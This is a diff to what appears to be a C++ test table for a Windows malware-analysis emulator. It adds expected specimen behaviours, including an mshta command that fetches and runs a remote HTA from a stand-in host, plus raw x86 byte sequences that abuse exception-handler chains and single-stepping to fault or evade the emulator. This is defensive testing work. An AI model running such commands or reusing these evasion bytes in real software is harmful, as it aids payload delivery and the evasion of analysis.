@@ -77,6 +77,14 @@ const SpecimenRow specimen_rows[] = {
      {"C:\\WINDOWS\\Temp\\specimen.tmp"},
      "kernel32.ExitProcess"},
     {"connect", Outcome::waits, {}, {}, {"connects to 192.0.2.7:4444"}, {}, "kernel32.Sleep"},
+    {"exceptions",
+     Outcome::exited,
+     {},
+     {"mshta http://files.example/exceptions.hta"},
+     {},
+     {},
+     "kernel32.ExitThread"},
+    {"fixed_addresses", Outcome::exited, {}, {"mshta"}, {}, {}, "kernel32.ExitProcess"},
     {"past_hooks", Outcome::unknown_call, {}, {}, {}, {}, "specimen.dll.SpecimenFunction"},
 };
 
@@ -173,6 +181,24 @@ const HostileRow hostile_rows[] = {
     {"calls_itself", "\xE8\xFB\xFF\xFF\xFF"s, Outcome::bad_memory},
     // mov edi, here; mov ecx, -1; rep stosb: writes over itself and on.
     {"writes_over_all", "\xE8\x00\x00\x00\x00\x5F\x83\xC9\xFF\xF3\xAA"s, Outcome::bad_memory},
+    // Its handler is the faulting instruction: push here; push fs:[0]; mov fs:[0], esp; mov eax, [0]
+    {"handler_that_faults",
+     "\xE8\x00\x00\x00\x00\x58\x83\xC0\x15\x31\xC9\x50\x64\xFF\x31\x64\x89\x21\x90\x90\x90\x90\x90\x90\x90"
+     "\xA1\x00\x00\x00\x00"s,
+     Outcome::bad_memory},
+    // As above, and it answers "go on" for ever.
+    {"handler_that_changes_nothing",
+     "\xE8\x00\x00\x00\x00\x58\x83\xC0\x12\x31\xC9\x50\x64\xFF\x31\x64\x89\x21\xA1\x00\x00\x00\x00"
+     "\x31\xC0\xC3"s,
+     Outcome::bad_memory},
+    // push -1; push -1; mov fs:[0], esp; int3: a handler where nothing is.
+    {"handler_nowhere", "\x6A\xFF\x6A\xFF\x31\xC9\x64\x89\x21\xCC"s, Outcome::bad_memory},
+    // xor ecx, ecx; mov fs:[ecx], ecx; int3: a chain that is none.
+    {"chain_nowhere", "\x31\xC9\x64\x89\x09\xCC"s, Outcome::bad_code},
+    // mov fs:[0], esp, over itself: a chain without end.
+    {"chain_in_a_ring", "\x54\x54\x31\xC9\x64\x89\x21\x89\x24\x24\xCC"s, Outcome::bad_code},
+    // pushfd; or [esp], trap; popfd; nops: a step at a time, unhandled.
+    {"single_steps", "\x9C\x81\x0C\x24\x00\x01\x00\x00\x9D\x90\x90\xEB\xFE"s, Outcome::bad_code},
     // Rewrites its own jump for ever: inc byte [esi+…]; jmp
     {"rewrites_itself", "\xE8\x00\x00\x00\x00\x5E\xFE\x46\x08\x31\xC0\xEB\xF9\x90"s, Outcome::endless},
     // lidt, lgdt, mov cr0: what only a kernel does; it turns no protection off that matters here.
